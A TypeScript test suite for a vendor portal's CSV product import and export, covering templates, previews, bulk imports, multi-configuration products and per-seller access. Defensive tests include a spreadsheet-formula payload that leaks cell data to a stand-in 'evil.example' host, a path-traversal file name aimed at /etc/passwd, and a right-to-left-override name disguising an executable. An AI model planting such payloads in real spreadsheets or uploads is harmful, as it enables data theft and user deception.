import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { ProductDetailResponse, ProductListResponse } from '~/shared/schemas/catalogue';
import type { ImportPreview } from '~/shared/schemas/vendor-products';
import { DEMO_ACCOUNTS } from '../../ops/seed/demo-accounts';
import { signUpVendor } from '../../test/accounts-kit';
import { csvOf, finishedImport, laptopRow, monitorRow, queueImport, sendCsv } from '../../test/catalogue-csv-kit';
import { seedDemoCatalogueForTests } from '../../test/catalogue-fixture';
import { startTestWorker } from '../../test/job-worker-kit';
import { cookieFrom, createTestApp, json, type TestApp } from '../../test/test-app';

let t: TestApp;
let kharghar: { cookie: string; vendorId: string };
let pune: { cookie: string; vendorId: string };
let worker: Awaited<ReturnType<typeof startTestWorker>>;

async function signInVendor(account: { email: string; password: string }) {
  const res = await json(t.app, 'POST', '/api/auth/login', { email: account.email, password: account.password, portal: 'vendor' });
  expect(res.statusCode, res.body).toBe(200);
  return { cookie: cookieFrom(res), vendorId: res.json().user.vendor.id as string };
}

beforeAll(async () => {
  t = await createTestApp({ PUBLIC_FORM_LIMIT_PER_HOUR: 1000 });
  await seedDemoCatalogueForTests(t.services);
  kharghar = await signInVendor(DEMO_ACCOUNTS.khargharVendor);
  pune = await signInVendor(DEMO_ACCOUNTS.approvedVendor);
  worker = await startTestWorker(t, ['catalogue.import-csv']);
}, 120_000);
afterAll(async () => {
  await worker.stop();
  await t.close();
});

const send = (url: string, csv: string, cookie: string) => sendCsv(t, url, csv, cookie);

/** Queues the import of a CSV and waits for the worker to finish it. */
async function importNow(csv: string, cookie = kharghar.cookie) {
  return finishedImport(t, (await queueImport(t, csv, cookie)).id, cookie);
}

async function preview(csv: string, cookie = kharghar.cookie): Promise<ImportPreview> {
  const res = await send('/api/vendor/products/import/preview', csv, cookie);
  expect(res.statusCode, res.body).toBe(200);
  return res.json() as ImportPreview;
}

describe('CSV templates and export', () => {
  it("gives a template per category with that category's columns, and exports the vendor's products so they import back as updates", async () => {
    const template = await t.app.inject({
      method: 'GET',
      url: '/api/vendor/products/import/template?category=Monitor',
      headers: { cookie: kharghar.cookie },
    });
    expect(template.statusCode).toBe(200);
    expect(template.headers['content-type']).toMatch(/text\/csv/);
    const [header] = parse(template.body.replace(/^\uFEFF/, ''), { to_line: 1 }) as string[][];
    expect(header).toEqual(
      expect.arrayContaining(['product_key', 'sku', 'option1_name', 'option1_value', 'price', 'panel_type', 'refresh_rate_hz', 'ports']),
    );
    expect(header).not.toContain('processor');
    // The template's own example rows are a valid new product of two configurations.
    expect((await preview(template.body)).rows.map((r) => r.action)).toEqual(['create', 'create']);

    const exported = await t.app.inject({ method: 'GET', url: '/api/vendor/products/export', headers: { cookie: kharghar.cookie } });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-disposition']).toMatch(/^attachment; filename="products-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parse(exported.body.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
    const [{ n }] = (
      await t.services.database.db.execute<{ n: number }>(
        sql`select count(*)::int as n from offers o join products p on p.id = o.product_id join product_variants v on v.id = o.variant_id
             where o.vendor_id = ${kharghar.vendorId} and p.vendor_id = ${kharghar.vendorId} and v.status = 'active'`,
      )
    ).rows as [{ n: number }];
    expect(rows).toHaveLength(n);
    const back = await preview(exported.body);
    expect(back.rows.filter((r) => r.action === 'error')).toEqual([]);
    expect(back).toMatchObject({ update: n, create: 0, error: 0 });
  });
});

describe('the export, read back', () => {
  it('is named by the day in India: at 8 pm UTC it is already the next day there', async () => {
    const now = new Date();
    const evening = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), now.getUTCDate(), 20, 0));
    const nextDay = new Date(evening.getTime() + 86_400_000).toISOString().slice(0, 10);
    vi.useFakeTimers({ toFake: ['Date'], now: evening });
    try {
      const exported = await t.app.inject({ method: 'GET', url: '/api/vendor/products/export', headers: { cookie: kharghar.cookie } });
      expect(exported.statusCode).toBe(200);
      expect(exported.headers['content-disposition']).toBe(`attachment; filename="products-${nextDay}.csv"`);
    } finally {
      vi.useRealTimers();
    }
  });

  it('writes text that starts like a formula so a spreadsheet shows it as text, and imports it back unchanged (decision 56)', async () => {
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me") Monitor 27';
    const description = '@SUM(A1:A9) A 27-inch QHD monitor whose description starts like a spreadsheet formula, read as text.';
    await importNow(csvOf([monitorRow('XFORMULA-1', { name, description, model: '-27Q1' })]));
    const stored = async () =>
      (
        await t.services.database.db.execute<{ name: string; description: string; model: string }>(
          sql`select name, description, model from products where vendor_id = ${kharghar.vendorId} and sku = 'XFORMULA-1'`,
        )
      ).rows[0];
    expect(await stored()).toEqual({ name, description, model: '-27Q1' });

    const exported = await t.app.inject({ method: 'GET', url: '/api/vendor/products/export', headers: { cookie: kharghar.cookie } });
    const rows = parse(exported.body, { columns: true, bom: true }) as Record<string, string>[];
    const row = rows.find((r) => r.sku === 'XFORMULA-1')!;
    expect(row).toMatchObject({ name: `'${name}`, description: `'${description}`, model: "'-27Q1", price: '21499' });
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // The file imported back as it is: the same text, not one with an apostrophe more.
    expect(await importNow(exported.body)).toMatchObject({ status: 'done', skipped: 0 });
    expect(await stored()).toEqual({ name, description, model: '-27Q1' });
  });

  it('carries More specifications, one "Label: value" a line, and an edited export imports them back', async () => {
    const extraSpecsOf = async (sku: string) =>
      (
        await t.services.database.db.execute<{ extra_specs: unknown }>(
          sql`select extra_specs from products where vendor_id = ${kharghar.vendorId} and sku = ${sku}`,
        )
      ).rows[0]?.extra_specs;
    // Named apart from the other tests' monitors, which count those found by search.
    const name = 'Acer Nitro Spectrafold 27 QHD 180 Hz';
    await importNow(csvOf([monitorRow('XSPEC-1', { name, extra_specs: 'Stand: Height adjustable, tilt\nSpeakers: 2 x 2 W' })]));
    expect(await extraSpecsOf('XSPEC-1')).toEqual([
      { label: 'Stand', value: 'Height adjustable, tilt' },
      { label: 'Speakers', value: '2 x 2 W' },
    ]);

    const exported = await t.app.inject({ method: 'GET', url: '/api/vendor/products/export', headers: { cookie: kharghar.cookie } });
    const rows = parse(exported.body.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.sku === 'XSPEC-1')!;
    expect(row.extra_specs).toBe('Stand: Height adjustable, tilt\nSpeakers: 2 x 2 W');

    // Changed in a spreadsheet and imported back: the lines are the file's.
    const edited = { ...row, extra_specs: 'Stand: Height adjustable, tilt\nSpeakers: None\nWall mount: VESA 100 x 100' };
    expect(await importNow(csvOf([edited]))).toMatchObject({ status: 'done', created: 0, updated: 1, skipped: 0 });
    expect(await extraSpecsOf('XSPEC-1')).toEqual([
      { label: 'Stand', value: 'Height adjustable, tilt' },
      { label: 'Speakers', value: 'None' },
      { label: 'Wall mount', value: 'VESA 100 x 100' },
    ]);

    // A file without the column (a template of before) leaves the lines as they are.
    expect(await importNow(csvOf([monitorRow('XSPEC-1', { name, stock: '4' })]))).toMatchObject({ updated: 1, skipped: 0 });
    expect(await extraSpecsOf('XSPEC-1')).toHaveLength(3);

    // A line that is not "Label: value" is named, as the form would.
    const bad = await preview(
      csvOf([monitorRow('XSPEC-2', { extra_specs: 'Stand: Fixed\nSpeakers' }), monitorRow('XSPEC-3', { extra_specs: 'Stand:' })]),
    );
    expect(bad.rows.map((r) => r.errors.extra_specs)).toEqual([
      'Line 2 in this cell needs a label and a value, like "Battery: 6 hours" (one per line)',
      'Line 1 in this cell: Enter the value',
    ]);
  });
});

describe('CSV import', () => {
  it('previews each row as create, update or error with the reason, and writes nothing', async () => {
    const [existing] = (
      await t.services.database.db.execute<{ sku: string }>(
        sql`select sku from products where vendor_id = ${kharghar.vendorId} and sku is not null order by sku limit 1`,
      )
    ).rows as [{ sku: string }];
    const csv = csvOf([
      monitorRow('LUM-1'),
      { ...monitorRow(existing.sku), price: '19,999' },
      monitorRow('LUM-BAD', { price: '40,000', panel_type: '' }),
      monitorRow('LUM-1'),
    ]);
    const result = await preview(csv);
    expect(result).toMatchObject({ create: 1, update: 1, error: 2 });
    expect(result.rows[0]).toMatchObject({ line: 2, sku: 'LUM-1', action: 'create', errors: {} });
    expect(result.rows[1]).toMatchObject({ line: 3, action: 'update' });
    expect(result.rows[2]).toMatchObject({
      line: 4,
      action: 'error',
      errors: { price: 'Price must not be above the MRP', panel_type: 'Enter the panel type of this monitor' },
    });
    expect(result.rows[3]!.errors.sku).toBe('This SKU is also on line 2: each row needs its own.');
    const written = await t.services.database.db.execute(sql`select 1 from products where sku = 'LUM-1'`);
    expect(written.rows).toHaveLength(0);
  });

  it('imports all valid rows in the background, and the shop finds them once the import is done', async () => {
    const rows = Array.from({ length: 600 }, (_, i) => monitorRow(`BULK-${i}`));
    rows.push(monitorRow('BULK-BAD', { refresh_rate_hz: 'fast' }));
    const queued = await queueImport(t, csvOf(rows), kharghar.cookie, 'bulk monitors.csv');
    expect(queued).toMatchObject({ fileName: 'bulk monitors.csv', status: 'queued', total: 600, done: 0, skipped: 1, created: null });
    const done = await finishedImport(t, queued.id, kharghar.cookie);
    expect(done).toMatchObject({ status: 'done', total: 600, done: 600, created: 600, updated: 0, skipped: 1, error: null });
    const search = await json(t.app, 'GET', '/api/catalogue/products?q=lumenbay');
    expect((search.json() as ProductListResponse).total).toBe(600);

    // Importing again updates the same products (matched by the vendor's SKU), creating none.
    rows.pop();
    const again = await importNow(csvOf(rows.map((r) => ({ ...r, stock: '3' }))));
    expect(again).toMatchObject({ status: 'done', created: 0, updated: 600, skipped: 0 });
    const [{ n, stock }] = (
      await t.services.database.db.execute<{ n: number; stock: number }>(
        sql`select count(*)::int as n, max(stock)::int as stock from products where vendor_id = ${kharghar.vendorId} and sku like 'BULK-%'`,
      )
    ).rows as [{ n: number; stock: number }];
    expect({ n, stock }).toEqual({ n: 600, stock: 3 });
  });

  it("matches SKUs per vendor: the same SKU of another vendor creates the vendor's own product and leaves theirs alone", async () => {
    await importNow(csvOf([monitorRow('SHARED-SKU', { stock: '40' })]), pune.cookie);
    const mine = await importNow(csvOf([monitorRow('SHARED-SKU', { stock: '2' })]));
    expect(mine).toMatchObject({ status: 'done', created: 1, updated: 0, skipped: 0 });
    const stocks = (
      await t.services.database.db.execute<{ vendor_id: string; stock: number }>(
        sql`select vendor_id, stock from products where sku = 'SHARED-SKU' order by stock`,
      )
    ).rows;
    expect(stocks).toEqual([
      { vendor_id: kharghar.vendorId, stock: 2 },
      { vendor_id: pune.vendorId, stock: 40 },
    ]);
  });

  it('keeps only a safe display name of the file a client names, never a path', async () => {
    const names: [string, string][] = [
      ['../../../../etc/passwd', 'passwd'],
      ['C:\\Users\\Sanjay\\Desktop\\monitors.csv', 'monitors.csv'],
      ['..', 'products.csv'],
      ['.hidden.csv', 'hidden.csv'],
      ['invoice\u202Evsc.exe', 'invoicevsc.exe'],
      ['मॉनिटर  सूची\t(नोव्हेंबर).csv', 'मॉनिटर सूची (नोव्हेंबर).csv'],
    ];
    for (const [sent, shown] of names) {
      const queued = await queueImport(t, csvOf([monitorRow(`NAME-${shown.length}`)]), kharghar.cookie, sent);
      expect(queued.fileName, sent).toBe(shown);
      const { rows } = await t.services.database.pool.query<{ file_name: string }>('select file_name from product_imports where id = $1', [
        queued.id,
      ]);
      expect(rows[0]!.file_name).toBe(shown);
      expect((await finishedImport(t, queued.id, kharghar.cookie)).fileName).toBe(shown);
    }
  });

  it('refuses a file over 10 MB before reading it, saying the limit', async () => {
    for (const url of ['/api/vendor/products/import/preview', '/api/vendor/products/import']) {
      const res = await send(url, `sku,name\n${'A,'.padEnd(10 * 1024 * 1024, 'x')}\n`, kharghar.cookie);
      expect(res.statusCode, url).toBe(413);
      expect(res.json().error).toMatchObject({
        code: 'PAYLOAD_TOO_LARGE',
        message: 'A CSV may be at most 10 MB; split it into smaller files.',
        fields: { file: 'A CSV may be at most 10 MB; split it into smaller files.' },
      });
    }
  });

  it('refuses at once, with the reason and nothing queued: an unreadable file, unknown columns, no valid row, too many rows, and a vendor that is not approved', async () => {
    const before = (await json(t.app, 'GET', '/api/vendor/products/imports', undefined, kharghar.cookie)).json().total as number;
    const preview = '/api/vendor/products/import/preview';
    const importing = '/api/vendor/products/import';
    // The preview shows a file whose every row has an error, row by row; only importing it is refused.
    const refusals: [string, RegExp, string[]][] = [
      ['sku,colour\nA,red\n', /Unknown column: colour/, [preview, importing]],
      ['sku,name\n"A,unclosed\n', /not a CSV we can read/, [preview, importing]],
      ['sku,name\n', /no product rows/, [preview, importing]],
      [csvOf(Array.from({ length: 10_001 }, (_, i) => ({ sku: `MANY-${i}`, name: 'x' }))), /at most 10,000 rows/, [preview, importing]],
      [csvOf([monitorRow('', {})]), /every row has an error/, [importing]],
    ];
    for (const [csv, message, urls] of refusals) {
      for (const url of urls) {
        const res = await send(url, csv, kharghar.cookie);
        expect(res.statusCode, `${url}: ${res.body}`).toBe(400);
        expect(res.json().error.message).toMatch(message);
        expect(res.json().error.fields).toHaveProperty('file');
      }
    }
    const empty = await send('/api/vendor/products/import', '', kharghar.cookie);
    expect(empty.statusCode).toBe(400);
    const longName = await send(`/api/vendor/products/import?fileName=${'a'.repeat(201)}.csv`, csvOf([monitorRow('N-1')]), kharghar.cookie);
    expect(longName.json().error.fields).toHaveProperty('fileName');
    const notCsv = await t.app.inject({
      method: 'POST',
      url: '/api/vendor/products/import',
      payload: '<xml/>',
      headers: { cookie: kharghar.cookie, 'content-type': 'application/xml' },
    });
    expect(notCsv.statusCode).toBe(415);
    const pending = await signUpVendor(t, 'Aundh Awaiting Monitors');
    const refused = await send('/api/vendor/products/import', csvOf([monitorRow('P-1')]), pending.cookie);
    expect(refused.statusCode).toBe(403);
    expect(refused.json().error.message).toMatch(/still being reviewed/);

    const after = await json(t.app, 'GET', '/api/vendor/products/imports', undefined, kharghar.cookie);
    expect(after.json().total).toBe(before);
    const { rows } = await t.services.database.pool.query(
      `select 1 from graphile_worker.jobs where task_identifier = 'catalogue.import-csv'`,
    );
    expect(rows).toHaveLength(0);
  });
});

describe('one row per configuration (decision 70, "The sellers\' CSV")', () => {
  const db = () => t.services.database.db;
  const productOfSku = async (vendorId: string, sku: string) =>
    (await db().execute<{ product_id: string }>(sql`select product_id from offers where vendor_id = ${vendorId} and seller_sku = ${sku}`))
      .rows[0]?.product_id;
  const exportOf = async (cookie = kharghar.cookie) => {
    const res = await t.app.inject({ method: 'GET', url: '/api/vendor/products/export', headers: { cookie } });
    expect(res.statusCode).toBe(200);
    return { body: res.body, rows: parse(res.body, { columns: true, bom: true }) as Record<string, string>[] };
  };
  const laptop = [
    laptopRow('IPX-16-512', '16', '512', { product_key: 'ideapad-x-csv' }),
    // A later row leaves the product's fields empty: the first row's hold.
    laptopRow('IPX-16-1TB', '16', '1024', {
      product_key: 'ideapad-x-csv',
      name: '',
      description: '',
      brand: '',
      price: '58,990',
      mrp: '79,990',
    }),
    laptopRow('IPX-32-1TB', '32', '1024', { product_key: 'ideapad-x-csv', price: '64,990', mrp: '84,990', dispatch_days: '3' }),
  ];

  it('imports a laptop of 3 configurations from 3 rows as one product the shop shows with its options, and its export imports back unchanged', async () => {
    expect(await importNow(csvOf(laptop))).toMatchObject({
      status: 'done',
      created: 3,
      updated: 0,
      skipped: 0,
      summary: '1 product added in 3 configurations.',
    });
    const productId = (await productOfSku(kharghar.vendorId, 'IPX-16-512'))!;
    expect(await productOfSku(kharghar.vendorId, 'IPX-16-1TB')).toBe(productId);
    expect(await productOfSku(kharghar.vendorId, 'IPX-32-1TB')).toBe(productId);

    const page = await json(t.app, 'GET', `/api/catalogue/products/${productId}`);
    expect(page.statusCode, page.body).toBe(200);
    const detail = page.json() as ProductDetailResponse;
    expect(detail.product).toMatchObject({ name: 'Lenovo IdeaPad X Core i5 15', brand: 'Lenovo' });
    expect(detail.options).toEqual([
      { key: 'ram', label: 'RAM', values: ['16 GB', '32 GB'] },
      { key: 'storage', label: 'Storage', values: ['512 GB SSD', '1024 GB SSD'] },
    ]);
    expect(detail.variants.map((v) => [v.options, v.winner?.pricePaise, v.winner?.dispatchDays])).toEqual([
      [{ ram: '16 GB', storage: '512 GB SSD' }, 5_299_000, 1],
      [{ ram: '16 GB', storage: '1024 GB SSD' }, 5_899_000, 1],
      [{ ram: '32 GB', storage: '1024 GB SSD' }, 6_499_000, 3],
    ]);
    // The product's first configuration and offer have its id, as every product of before (a cart naming only the product buys it).
    expect(detail.variants[0]!.id).toBe(productId);

    // Exported: one row per configuration under the product's slug, with its options; read back, each row updates its own.
    const first = await exportOf();
    const mine = first.rows.filter((r) => r.product_key === detail.product.slug);
    expect(mine.map((r) => [r.sku, r.option1_name, r.option1_value, r.option2_name, r.option2_value, r.price, r.dispatch_days])).toEqual([
      ['IPX-16-512', 'RAM', '16 GB', 'Storage', '512 GB SSD', '52990', '1'],
      ['IPX-16-1TB', 'RAM', '16 GB', 'Storage', '1024 GB SSD', '58990', '1'],
      ['IPX-32-1TB', 'RAM', '32 GB', 'Storage', '1024 GB SSD', '64990', '3'],
    ]);
    const back = await preview(first.body);
    expect(back.rows.filter((r) => r.action === 'error')).toEqual([]);
    expect(back).toMatchObject({ create: 0, error: 0 });
    expect(await importNow(first.body)).toMatchObject({ status: 'done', created: 0, skipped: 0 });
    const again = await exportOf();
    const sorted = (rows: Record<string, string>[]) => [...rows].sort((a, b) => a.sku!.localeCompare(b.sku!));
    expect(sorted(again.rows)).toEqual(sorted(first.rows));

    // A row more in the exported file is a fourth configuration of the same product.
    const added = { ...mine[2]!, sku: 'IPX-32-512', option2_value: '512 GB SSD', storage_gb: '512', price: '60990' };
    expect(await importNow(csvOf([...mine, added]))).toMatchObject({
      status: 'done',
      created: 1,
      updated: 3,
      createdProducts: 0,
      skipped: 0,
      summary: '1 configuration added to your products; 3 configurations updated.',
    });
    expect(await productOfSku(kharghar.vendorId, 'IPX-32-512')).toBe(productId);
    const four = (await json(t.app, 'GET', `/api/catalogue/products/${productId}`)).json() as ProductDetailResponse;
    expect(four.variants).toHaveLength(4);
    expect(four.options[1]!.values).toEqual(['512 GB SSD', '1024 GB SSD']);
  });

  it('turns a product of one configuration into one of two from its exported row and a row more, keeping its own configuration', async () => {
    await importNow(csvOf([monitorRow('ONE-TO-TWO', { name: 'Acer Nitro Duoline 27 QHD 180 Hz' })]));
    const productId = (await productOfSku(kharghar.vendorId, 'ONE-TO-TWO'))!;
    const row = (await exportOf()).rows.find((r) => r.sku === 'ONE-TO-TWO')!;
    expect(row).toMatchObject({ option1_name: '', option1_value: '', dispatch_days: '1', condition: 'new' });
    const black = { ...row, option1_name: 'Colour', option1_value: 'Black' };
    const white = { ...row, sku: 'ONE-TO-TWO-W', option1_value: 'White', name: '', price: '22499', ean: '8901234567890' };
    expect(await importNow(csvOf([black, white]))).toMatchObject({ status: 'done', created: 1, updated: 1, skipped: 0 });
    const page = (await json(t.app, 'GET', `/api/catalogue/products/${productId}`)).json() as ProductDetailResponse;
    expect(page.options).toEqual([{ key: 'colour', label: 'Colour', values: ['Black', 'White'] }]);
    expect(page.variants.map((v) => [v.id === productId, v.options, v.winner?.pricePaise])).toEqual([
      [true, { colour: 'Black' }, 2_149_900],
      [false, { colour: 'White' }, 2_249_900],
    ]);

    // Its rows under two keys are one product written twice: refused, naming the line of the first.
    const twice = await preview(csvOf([black, { ...white, product_key: 'another-key', name: row.name!, option1_name: 'Colour' }]));
    expect(twice.rows[1]).toMatchObject({
      action: 'error',
      errors: { product_key: "These rows are of the same product as line 2's: give all its rows one product_key." },
    });
  });

  it('still imports a file of before (no product_key, no options): each row one product of one configuration', async () => {
    expect(await importNow(csvOf([monitorRow('OLDFMT-1'), monitorRow('OLDFMT-2')]))).toMatchObject({ status: 'done', created: 2 });
    const [a, b] = [await productOfSku(kharghar.vendorId, 'OLDFMT-1'), await productOfSku(kharghar.vendorId, 'OLDFMT-2')];
    expect(a).toBeDefined();
    expect(a).not.toBe(b);
    expect(await importNow(csvOf([monitorRow('OLDFMT-1', { stock: '7', price: '19,999' })]))).toMatchObject({ created: 0, updated: 1 });
    const { rows } = await db().execute<{ n: number; options: unknown; product_stock: number; offer_stock: number; price: number }>(sql`
      select (select count(*)::int from product_variants where product_id = p.id) as n, v.options, p.stock as product_stock,
             o.stock as offer_stock, o.price_paise as price
        from products p join offers o on o.id = p.id join product_variants v on v.id = p.id where p.id = ${a!}`);
    expect(rows).toEqual([{ n: 1, options: {}, product_stock: 7, offer_stock: 7, price: 1_999_900 }]);
  });

  it('refuses a row whose options another row of the product has, naming the line, and keeps the product out', async () => {
    const result = await preview(
      csvOf([
        laptopRow('DUP-16-512', '16', '512', { product_key: 'ideapad-dup' }),
        laptopRow('DUP-16-512-B', '16', '512', { product_key: 'ideapad-dup', price: '50,990' }),
        laptopRow('DUP-OK', '8', '256', { product_key: 'ideapad-ok' }),
      ]),
    );
    expect(result).toMatchObject({ create: 1, update: 0, error: 2 });
    expect(result.rows[1]).toMatchObject({
      line: 3,
      action: 'error',
      errors: { option1_value: 'Line 2 of this product has the same options (16 GB / 512 GB SSD): each configuration needs its own row' },
    });
    expect(result.rows[0]!.errors.product_key).toMatch(/^Not imported: line 3 of this product has an error/);
    const done = await importNow(
      csvOf([
        laptopRow('DUP-16-512', '16', '512', { product_key: 'ideapad-dup' }),
        laptopRow('DUP-16-512-B', '16', '512', { product_key: 'ideapad-dup' }),
        laptopRow('DUP-OK', '8', '256', { product_key: 'ideapad-ok' }),
      ]),
    );
    expect(done).toMatchObject({ status: 'done', created: 1, skipped: 2 });
    expect(done.rowErrors.map((r) => [r.line, Object.keys(r.errors)])).toEqual([
      [2, ['product_key']],
      [3, ['option1_value']],
    ]);
    expect(await productOfSku(kharghar.vendorId, 'DUP-16-512')).toBeUndefined();
  });

  it("cannot write another seller's product: its product_key is a row error, by slug or id, and its product stays as it was", async () => {
    await importNow(csvOf([laptopRow('PUNE-IPX-1', '16', '512', { product_key: 'pune-ideapad', stock: '9' })]), pune.cookie);
    const theirs = (await productOfSku(pune.vendorId, 'PUNE-IPX-1'))!;
    const [{ slug }] = (await db().execute<{ slug: string }>(sql`select slug from products where id = ${theirs}`)).rows as [
      { slug: string },
    ];
    for (const key of [slug, theirs]) {
      const rows = [laptopRow('KH-STEAL-1', '16', '512', { product_key: key, name: 'Taken over', stock: '0' })];
      const result = await preview(csvOf(rows));
      expect(result.rows[0]).toMatchObject({
        action: 'error',
        errors: { product_key: expect.stringMatching(/^No product of yours has this product_key: it is another seller’s/) },
      });
      const res = await send('/api/vendor/products/import', csvOf(rows), kharghar.cookie);
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json().error.message).toMatch(/every row has an error/);
    }
    const page = (await json(t.app, 'GET', `/api/catalogue/products/${theirs}`)).json() as ProductDetailResponse;
    expect(page.product.name).toBe('Lenovo IdeaPad X Core i5 15');
    expect(page.variants[0]!.winner).toMatchObject({ stock: 9 });
    expect(await productOfSku(kharghar.vendorId, 'KH-STEAL-1')).toBeUndefined();
    // Its own export never lists the other seller's product.
    expect((await exportOf()).rows.some((r) => r.product_key === slug)).toBe(false);
  });
});
